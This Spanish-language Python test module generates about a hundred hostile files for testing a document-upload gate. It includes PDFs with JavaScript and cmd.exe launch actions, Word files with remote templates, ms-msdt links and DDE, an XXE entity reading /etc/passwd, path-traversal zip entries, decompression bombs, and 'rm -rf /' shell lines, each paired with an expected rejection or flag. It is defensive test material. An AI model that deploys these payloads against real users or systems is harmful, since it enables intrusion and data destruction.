"""Cien archivos hostiles, por familias, cada uno con lo que se espera de él. Todos se generan; ninguno se guarda en el repositorio.

``NIEGA(motivo)``: no pasa de la puerta. ``ADMITE(hallazgos…)``: pasa con eso anotado, y su copia debe quedar limpia.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from conferencia.domain.admision import Motivo

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CUERPO = f"<w:document xmlns:w='{W}'><w:body>{{}}</w:body></w:document>"
PARRAFO = "<w:p><w:r><w:t>Se remite el diagnóstico solicitado.</w:t></w:r></w:p>"
RELS = "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>{}</Relationships>"
TIPO_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TIPOS = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>{}</Types>"


@dataclass(frozen=True)
class Hostil:
    nombre: str
    contenido: Callable[[], bytes]
    motivo: Motivo | None = None
    hallazgos: tuple[str, ...] = ()


def niega(motivo: Motivo, nombre: str, contenido: Callable[[], bytes]) -> Hostil:
    return Hostil(nombre, contenido, motivo)


def admite(nombre: str, contenido: Callable[[], bytes], *hallazgos: str) -> Hostil:
    assert hallazgos, "nada hostil se admite en silencio"
    return Hostil(nombre, contenido, None, tuple(sorted(hallazgos)))


# --- PDF ------------------------------------------------------------------------------------------------------------------


def pdf(cambiar: Callable[[pikepdf.Pdf], object] = lambda p: None, paginas: int = 1, **guardar) -> bytes:
    with pikepdf.new() as nuevo:
        for _ in range(paginas):
            nuevo.add_blank_page(page_size=(612, 792))
        cambiar(nuevo)
        salida = io.BytesIO()
        nuevo.save(salida, **guardar)
    return salida.getvalue()


def js(codigo: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(codigo))


def en_raiz(**llaves) -> Callable[[], bytes]:
    return lambda: pdf(lambda p: [p.Root.__setitem__(f"/{k}", v) for k, v in llaves.items()])


def con_anotacion(**llaves) -> Callable[[], bytes]:
    def cambiar(p: pikepdf.Pdf) -> None:
        p.pages[0].obj["/Annots"] = Array([p.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 90, 90], **llaves))])

    return lambda: pdf(cambiar)


def con_adjunto(p: pikepdf.Pdf) -> None:
    p.attachments["virus.exe"] = pikepdf.AttachedFileSpec(p, b"MZ...", filename="virus.exe")


def suelto(p: pikepdf.Pdf) -> None:
    """Una acción que nadie enlaza: un visor que reconstruye la tabla puede hallarla."""
    p.Root["/Escondite"] = p.make_indirect(Dictionary(Cosa=Array([Array([js()])])))


def en_campo(p: pikepdf.Pdf) -> None:
    campo = p.make_indirect(Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=js())))
    p.Root["/AcroForm"] = Dictionary(Fields=Array([campo]))


def encadenada(p: pikepdf.Pdf) -> None:
    p.Root["/OpenAction"] = Dictionary(S=Name.GoTo, D=Array([p.pages[0].obj, Name.Fit]), Next=Array([js()]))


def en_marcador(p: pikepdf.Pdf) -> None:
    with p.open_outline() as indice:
        indice.root.append(pikepdf.OutlineItem("uno", 0))
    p.Root.Outlines.First["/A"] = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def arbol_en_circulo() -> bytes:
    crudo = pdf()
    return crudo.replace(b"/Kids [ 3 0 R ]", b"/Kids [ 2 0 R ]")


def contenido_bomba() -> bytes:
    return pdf(lambda p: p.pages[0].__setattr__("Contents", p.make_stream(b"q Q " * 5_000_000)))


def hondo(p: pikepdf.Pdf) -> None:
    interior = Dictionary()
    for _ in range(40):
        interior = Dictionary(A=interior)
    p.Root["/Hondo"] = interior
    p.Root["/OpenAction"] = js()


PDFS = {
    "pdf cifrado": niega(Motivo.CONTRASENA, "oficio.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="a"))),
    "pdf cifrado con RC4 de 40": niega(
        Motivo.CONTRASENA, "oficio.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="a", R=2, aes=False, metadata=False))
    ),
    "pdf con restricciones": admite("oficio.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")), "restricciones"),
    "pdf que es basura": niega(Motivo.DANADO, "oficio.pdf", lambda: b"%PDF-1.7\nbasura" * 9),
    "pdf solo encabezado": niega(Motivo.DANADO, "oficio.pdf", lambda: b"%PDF-1.7"),
    "pdf truncado": niega(Motivo.DANADO, "oficio.pdf", lambda: pdf()[:200]),
    "pdf sin tabla": admite("oficio.pdf", lambda: pdf().split(b"xref")[0], "reparado"),
    "pdf con la tabla corrida": admite("oficio.pdf", lambda: pdf().replace(b"startxref\n", b"startxref\n9"), "reparado"),
    "pdf sin páginas": niega(Motivo.DANADO, "oficio.pdf", lambda: pdf(paginas=0)),
    "pdf de 501 páginas": niega(Motivo.PAGINAS, "oficio.pdf", lambda: pdf(paginas=501)),
    "pdf con páginas en círculo": niega(Motivo.DANADO, "oficio.pdf", arbol_en_circulo),
    "javascript al abrir": admite("oficio.pdf", en_raiz(OpenAction=js()), "al_abrir", "javascript"),
    "javascript con nombre": admite("oficio.pdf", en_raiz(Names=Dictionary(JavaScript=Dictionary(Names=[String("a"), js()]))), "javascript"),
    "javascript en una anotación": admite("oficio.pdf", con_anotacion(Subtype=Name.Link, A=js()), "javascript"),
    "javascript en un campo": admite("oficio.pdf", lambda: pdf(en_campo), "acciones", "javascript"),
    "javascript suelto": admite("oficio.pdf", lambda: pdf(suelto), "javascript"),
    "javascript encadenado": admite("oficio.pdf", lambda: pdf(encadenada), "javascript"),
    "javascript en objetos comprimidos": admite(
        "oficio.pdf", lambda: pdf(suelto, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True), "javascript"
    ),
    "javascript muy hondo": admite("oficio.pdf", lambda: pdf(hondo), "al_abrir", "javascript"),
    "javascript con la llave disfrazada": admite(
        "oficio.pdf",
        lambda: pdf(lambda p: p.Root.__setitem__("/OpenAction", js())).replace(b"/JavaScript", b"/J#61vaScript"),
        "al_abrir",
        "javascript",
        "reparado",
    ),
    "acciones de página": admite("oficio.pdf", lambda: pdf(lambda p: p.pages[0].obj.__setitem__("/AA", Dictionary(O=js()))), "acciones", "javascript"),
    "acciones del documento": admite("oficio.pdf", en_raiz(AA=Dictionary(WC=js())), "acciones", "javascript"),
    "lanzar un programa al abrir": admite("oficio.pdf", en_raiz(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe"))), "al_abrir", "lanzar"),
    "lanzar desde un enlace": admite("oficio.pdf", con_anotacion(Subtype=Name.Link, A=Dictionary(S=Name.Launch, Win=Dictionary(F=String("calc")))), "lanzar"),
    "lanzar desde un marcador": admite("oficio.pdf", lambda: pdf(en_marcador), "lanzar"),
    "archivo incrustado": admite("oficio.pdf", lambda: pdf(con_adjunto), "adjuntos"),
    "adjunto en una anotación": admite(
        "oficio.pdf", con_anotacion(Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, EF=Dictionary())), "adjuntos"
    ),
    "ir a otro archivo": admite("oficio.pdf", con_anotacion(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\malo\\x"))), "externo"),
    "ir a un incrustado": admite("oficio.pdf", con_anotacion(Subtype=Name.Link, A=Dictionary(S=Name.GoToE)), "adjuntos"),
    "enviar formulario": admite("oficio.pdf", con_anotacion(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://malo"))), "envio"),
    "importar datos": admite("oficio.pdf", con_anotacion(Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("x.fdf"))), "envio"),
    "formulario XFA": admite("oficio.pdf", en_raiz(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>"))), "xfa"),
    "multimedia": admite("oficio.pdf", con_anotacion(Subtype=Name.RichMedia, RichMediaContent=Dictionary()), "multimedia"),
    "objeto 3D": admite("oficio.pdf", con_anotacion(Subtype=Name("/3D")), "multimedia"),
    "película": admite("oficio.pdf", con_anotacion(Subtype=Name.Movie), "multimedia"),
    "pantalla con video": admite("oficio.pdf", con_anotacion(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition)), "multimedia"),
    "sonido": admite("oficio.pdf", con_anotacion(Subtype=Name.Sound), "multimedia"),
    "enlace a una página": admite("oficio.pdf", con_anotacion(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("http://malo"))), "enlaces"),
    "enlace javascript:": admite("oficio.pdf", con_anotacion(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))), "enlaces"),
    "todo junto": admite(
        "oficio.pdf", lambda: pdf(lambda p: (con_adjunto(p), suelto(p), en_campo(p), en_marcador(p))), "acciones", "adjuntos", "javascript", "lanzar"
    ),
    "contenido que se infla": admite("oficio.pdf.txt", contenido_bomba, "extension"),
}

# --- Word y Excel ---------------------------------------------------------------------------------------------------------


def paquete(piezas: dict[str, str | bytes], principal: str = "word", tipos: str = "", sin_tipos: bool = False) -> bytes:
    completas: dict[str, str | bytes] = {} if sin_tipos else {"[Content_Types].xml": TIPOS.format(tipos)}
    completas |= {"word/document.xml": CUERPO.format(PARRAFO)} if principal == "word" else {"xl/workbook.xml": "<workbook/>"}
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w", zipfile.ZIP_DEFLATED) as zip_:
        for nombre, contenido in (completas | piezas).items():
            zip_.writestr(nombre, contenido)
    return salida.getvalue()


def relacion(clase: str, destino: str, modo: str = "External") -> str:
    return RELS.format(f"<Relationship Id='r1' Type='{TIPO_REL}/{clase}' Target='{destino}' TargetMode='{modo}'/>")


def con(principal: str, pieza: str, contenido: str | bytes = b"\0") -> Callable[[], bytes]:
    return lambda: paquete({pieza: contenido}, principal)


def con_tipo(tipo: str) -> Callable[[], bytes]:
    return lambda: paquete({}, tipos=f"<Override PartName='/word/document.xml' ContentType='{tipo}'/>")


def cifrado_por_dentro() -> bytes:
    crudo = bytearray(paquete({}))
    for firma, lugar in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        donde = crudo.find(firma)
        while donde >= 0:
            crudo[donde + lugar] |= 1
            donde = crudo.find(firma, donde + 4)
    return bytes(crudo)


def repetido() -> bytes:
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w") as zip_:
        zip_.writestr("[Content_Types].xml", TIPOS.format(""))
        zip_.writestr("word/document.xml", CUERPO.format(PARRAFO))
        zip_.filelist.append(zip_.filelist[-1])
    return salida.getvalue()


def miente_su_tamano() -> bytes:
    crudo = bytearray(paquete({"word/document.xml": "<w>" + " " * (70 << 20)}))
    donde = crudo.rfind(b"PK\x01\x02")
    crudo[donde + 24 : donde + 28] = struct.pack("<I", 100)
    return bytes(crudo)


def bomba_por_partes() -> bytes:
    """Siete piezas que su directorio dice de 50 MB."""
    crudo = bytearray(paquete({f"word/media/{n}.xml": b"x" for n in range(7)}))
    donde = crudo.find(b"PK\x01\x02")
    while donde >= 0:
        crudo[donde + 24 : donde + 28] = struct.pack("<I", 50 << 20)
        donde = crudo.find(b"PK\x01\x02", donde + 4)
    return bytes(crudo)


def pieza_danada() -> bytes:
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w", zipfile.ZIP_STORED) as zip_:
        zip_.writestr("[Content_Types].xml", TIPOS.format(""))
        zip_.writestr("word/document.xml", CUERPO.format(PARRAFO))
    return salida.getvalue().replace(b"solicitado", b"solicitadX", 1)


MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
ENTIDADES = "<!DOCTYPE w [<!ENTITY a 'aaaa'>]>" + CUERPO.format("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PAQUETES = {
    "docm": niega(Motivo.MACROS, "oficio.docm", con_tipo(MACRO)),
    "docm con nombre de docx": niega(Motivo.MACROS, "oficio.docx", con("word", "word/vbaProject.bin")),
    "dotm": niega(Motivo.MACROS, "oficio.dotm", con_tipo("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
    "xlsm con nombre de xlsx": niega(Motivo.MACROS, "libro.xlsx", con("xl", "xl/vbaProject.bin")),
    "macros con otro nombre de carpeta": niega(Motivo.MACROS, "oficio.docx", con("word", "otra/VBAPROJECT.BIN")),
    "plantilla remota": admite("oficio.docx", con("word", "word/_rels/settings.xml.rels", relacion("attachedTemplate", "http://malo/t.dotm")), "externo"),
    "imagen remota": admite("oficio.docx", con("word", "word/_rels/document.xml.rels", relacion("image", "http://malo/rastro.png")), "externo"),
    "objeto remoto": admite("oficio.docx", con("word", "word/_rels/document.xml.rels", relacion("oleObject", "mhtml:http://malo!x")), "externo"),
    "enlace a una carpeta de red": admite("oficio.docx", con("word", "word/_rels/document.xml.rels", relacion("hyperlink", "file://malo/x")), "externo"),
    "enlace ms-msdt": admite("oficio.docx", con("word", "word/_rels/document.xml.rels", relacion("hyperlink", "ms-msdt:/id")), "externo"),
    "enlace web en Word": admite("oficio.docx", con("word", "word/_rels/document.xml.rels", relacion("hyperlink", "https://ejemplo.mx")), "enlaces"),
    "objeto incrustado": admite("oficio.docx", con("word", "word/embeddings/oleObject1.bin"), "incrustados"),
    "ActiveX": admite("oficio.docx", con("word", "word/activeX/activeX1.bin"), "control"),
    "DDE en Word": admite(
        "oficio.docx", con("word", "word/document.xml", CUERPO.format(PARRAFO + "<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>")), "dde"
    ),
    "libro con enlaces a otros": admite("libro.xlsx", con("xl", "xl/externalLinks/externalLink1.xml", "<externalLink/>"), "externo"),
    "DDE en Excel": admite("libro.xlsx", con("xl", "xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>"), "dde", "externo"),
    "excel con nombre de word": admite("oficio.docx", lambda: paquete({}, "xl"), "extension"),
    "bomba de espacios": niega(Motivo.DESMESURADO, "oficio.docx", con("word", "word/document.xml", "<w>" + " " * (70 << 20))),
    "bomba por partes": niega(Motivo.DESMESURADO, "oficio.docx", bomba_por_partes),
    "bomba que miente su tamaño": niega(Motivo.DANADO, "oficio.docx", miente_su_tamano),
    "cinco mil piezas": niega(Motivo.DESMESURADO, "oficio.docx", lambda: paquete({f"word/media/{n}": b"" for n in range(5001)})),
    "entidades": niega(Motivo.DANADO, "oficio.docx", con("word", "word/document.xml", ENTIDADES)),
    "relaciones con entidades": niega(
        Motivo.DANADO, "oficio.docx", con("word", "word/_rels/document.xml.rels", "<!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><r>")
    ),
    "pieza que sale de su carpeta": niega(Motivo.DANADO, "oficio.docx", con("word", "../../etc/cron.d/x")),
    "pieza absoluta": niega(Motivo.DANADO, "oficio.docx", con("word", "/etc/passwd")),
    "pieza con unidad": niega(Motivo.DANADO, "oficio.docx", con("word", "C:\\x")),
    "pieza repetida": niega(Motivo.DANADO, "oficio.docx", repetido),
    "word cifrado por dentro": niega(Motivo.CONTRASENA, "oficio.docx", cifrado_por_dentro),
    "word con contraseña": niega(Motivo.CONTRASENA, "oficio.docx", lambda: OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)),
    "word antiguo": niega(Motivo.TIPO, "oficio.doc", lambda: OLE + bytes(1200)),
    "word truncado": niega(Motivo.DANADO, "oficio.docx", lambda: paquete({})[:-60]),
    "word con la pieza dañada": niega(Motivo.DANADO, "oficio.docx", pieza_danada),
    "zip cualquiera": niega(Motivo.TIPO, "oficio.docx", lambda: paquete({"x.exe": b"MZ"}, sin_tipos=True)),
    "zip vacío": niega(Motivo.TIPO, "oficio.docx", lambda: b"PK\x05\x06" + bytes(18)),
    "solo la firma": niega(Motivo.DANADO, "oficio.docx", lambda: b"PK\x03\x04"),
    "relaciones mal formadas": niega(Motivo.DANADO, "oficio.docx", con("word", "word/_rels/document.xml.rels", "<Relationships")),
}

# --- Imágenes -------------------------------------------------------------------------------------------------------------


def imagen(formato: str = "JPEG", medida: tuple[int, int] = (300, 400), **opciones) -> bytes:
    salida = io.BytesIO()
    Image.effect_noise(medida, 60).convert("RGB").save(salida, formato, **opciones)
    return salida.getvalue()


def png_que_dice_medir(ancho: int, alto: int) -> bytes:
    def trozo(clase: bytes, datos: bytes) -> bytes:
        return struct.pack(">I", len(datos)) + clase + datos + struct.pack(">I", zlib.crc32(clase + datos))

    cabeza = struct.pack(">IIBBBBB", ancho, alto, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + trozo(b"IHDR", cabeza) + trozo(b"IDAT", zlib.compress(bytes(1000))) + trozo(b"IEND", b"")


def con_ubicacion() -> bytes:
    exif = Image.Exif()
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (19.0, 2.0, 30.0)
    return imagen(exif=exif)


def tiff_de(paginas: int) -> bytes:
    salida = io.BytesIO()
    hojas = [Image.new("1", (60, 60)) for _ in range(paginas)]
    hojas[0].save(salida, "TIFF", save_all=True, append_images=hojas[1:])
    return salida.getvalue()


IMAGENES = {
    "png de 900 megapixeles": niega(Motivo.DESMESURADO, "foto.png", lambda: png_que_dice_medir(30_000, 30_000)),
    "png imposible": niega(Motivo.DESMESURADO, "foto.png", lambda: png_que_dice_medir(2_000_000_000, 2_000_000_000)),
    "png incompleto": niega(Motivo.DANADO, "foto.png", lambda: imagen("PNG")[:2000]),
    "png que no trae lo que dice": niega(Motivo.DANADO, "foto.png", lambda: png_que_dice_medir(4000, 4000)),
    "png solo firma": niega(Motivo.DANADO, "foto.png", lambda: b"\x89PNG\r\n\x1a\n"),
    "jpg incompleto": niega(Motivo.DANADO, "foto.jpg", lambda: imagen()[: len(imagen()) // 2]),
    "jpg solo firma": niega(Motivo.DANADO, "foto.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(30)),
    "jpg de un pixel": niega(Motivo.DANADO, "foto.jpg", lambda: imagen(medida=(1, 1))),
    "jpg con nombre de pdf": admite("oficio.pdf", imagen, "extension"),
    "jpg con su ubicación": admite("foto.jpg", con_ubicacion, "ubicacion"),
    "tiff de 151 páginas": niega(Motivo.PAGINAS, "escaneo.tif", lambda: tiff_de(151)),
    "tiff dañado": niega(Motivo.DANADO, "escaneo.tif", lambda: b"II*\0\xff\xff\xff\xff" + bytes(50)),
    "tiff en círculo": niega(Motivo.DANADO, "escaneo.tif", lambda: b"II*\0\x08\0\0\0" + b"\0\0" + b"\x08\0\0\0"),
    "gif": niega(Motivo.TIPO, "foto.gif", lambda: b"GIF89a" + bytes(60)),
    "svg": niega(Motivo.TIPO, "foto.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "svg con encabezado": niega(Motivo.TIPO, "foto.png", lambda: b"<?xml version='1.0'?><svg/>"),
    "heic": niega(Motivo.TIPO, "IMG_0001.HEIC", lambda: b"\0\0\0\x18ftypheic" + bytes(60)),
    "webp": niega(Motivo.TIPO, "foto.jpg", lambda: b"RIFF\0\0\0\0WEBPVP8 " + bytes(60)),
}

# --- Dos cosas a la vez, disfraces y llaves -------------------------------------------------------------------------------

PKCS8_CIFRADA = b"\x30\x82\x05\x0e\x30\x40\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x05\x0d\x30\x33" + bytes(1200)
PKCS12 = b"\x30\x82\x09\xd1\x02\x01\x03\x30\x82\x09\x97\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01" + bytes(1200)
PKCS8 = b"\x30\x82\x04\xbe\x02\x01\x00\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\x00" + bytes(1200)
PKCS1 = b"\x30\x82\x04\xa4\x02\x01\x00\x02\x82\x01\x01\x00" + bytes(1200)
DISFRACES = {
    "pdf que también es zip": niega(Motivo.DOS_EN_UNO, "oficio.pdf", lambda: pdf() + paquete({})),
    "jpg que también es zip": niega(Motivo.DOS_EN_UNO, "foto.jpg", lambda: imagen() + paquete({})),
    "jpg que también es pdf": niega(Motivo.DOS_EN_UNO, "foto.jpg", lambda: b"\xff\xd8\xff\xfe\x04\x00" + pdf()),
    "html que también es pdf": niega(Motivo.DOS_EN_UNO, "oficio.pdf", lambda: b"<html><script>alert(1)</script>" + pdf()),
    "gif que también es pdf": niega(Motivo.DOS_EN_UNO, "oficio.pdf", lambda: b"GIF89a" + bytes(20) + pdf()),
    "programa con nombre de pdf": niega(Motivo.TIPO, "oficio.pdf", lambda: b"MZ\x90" + bytes(200)),
    "elf con nombre de docx": niega(Motivo.TIPO, "oficio.docx", lambda: b"\x7fELF" + bytes(200)),
    "guion con nombre de pdf": niega(Motivo.TIPO, "oficio.pdf", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "lote con nombre de pdf": niega(Motivo.TIPO, "oficio.pdf", lambda: b"@echo off\r\ndel *.*"),
    "página web con nombre de pdf": niega(Motivo.TIPO, "oficio.pdf", lambda: b"<!DOCTYPE html><script>alert(1)</script>"),
    "texto con nombre de pdf": niega(Motivo.TIPO, "oficio.pdf", lambda: b"Se remite el oficio."),
    "rtf": niega(Motivo.TIPO, "oficio.doc", lambda: b"{\\rtf1 hola}"),
    "rar": niega(Motivo.TIPO, "oficio.pdf", lambda: b"Rar!\x1a\x07\0" + bytes(60)),
    "7z": niega(Motivo.TIPO, "oficio.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(60)),
    "gzip": niega(Motivo.TIPO, "oficio.gz", lambda: b"\x1f\x8b\x08" + bytes(60)),
    "ceros": niega(Motivo.TIPO, "oficio.pdf", lambda: bytes(5000)),
    "vacío": niega(Motivo.VACIO, "oficio.pdf", lambda: b""),
    "doble extensión": admite("oficio.pdf.exe", pdf, "extension"),
    "llave PEM": niega(Motivo.LLAVE_PRIVADA, "firma.key", lambda: b"-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIF\n"),
    "llave RSA en PEM": niega(Motivo.LLAVE_PRIVADA, "firma.pem", lambda: b"-----BEGIN RSA PRIVATE KEY-----\nMIIF\n"),
    "la .key del SAT": niega(Motivo.LLAVE_PRIVADA, "Claveprivada_FIEL.key", lambda: PKCS8_CIFRADA),
    "llave PKCS#8": niega(Motivo.LLAVE_PRIVADA, "firma.der", lambda: PKCS8),
    "llave PKCS#1": niega(Motivo.LLAVE_PRIVADA, "firma.der", lambda: PKCS1),
    "almacén .pfx": niega(Motivo.LLAVE_PRIVADA, "firma.pfx", lambda: PKCS12),
    "llave con nombre de pdf": niega(Motivo.LLAVE_PRIVADA, "oficio.pdf", lambda: PKCS8_CIFRADA),
}

FAMILIAS = {"pdf": PDFS, "word y excel": PAQUETES, "imágenes": IMAGENES, "disfraces y llaves": DISFRACES}
TODOS = {nombre: hostil for familia in FAMILIAS.values() for nombre, hostil in familia.items()}
